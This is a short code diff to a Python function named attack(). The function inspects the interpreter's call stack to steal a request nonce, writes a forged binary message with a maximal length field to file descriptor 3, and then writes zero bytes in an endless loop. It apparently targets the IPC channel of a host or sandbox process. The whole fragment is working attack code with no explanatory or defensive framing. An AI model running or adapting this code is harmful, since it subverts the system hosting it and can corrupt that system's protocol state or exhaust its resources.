@@ -7,7 +7,7 @@ def attack():
     frame = sys._getframe()
     while "request" not in frame.f_locals:
         frame = frame.f_back
-    nonce = frame.f_locals["request"].nonce + frame.f_locals["number"]
+    nonce = frame.f_locals.get("nonce", frame.f_locals["request"].nonce)
     os.write(3, struct.pack("<QBBQI", nonce, 0, 0, 0, 0xFFFFFFFF))
     while True:
         os.write(3, bytes(65536))
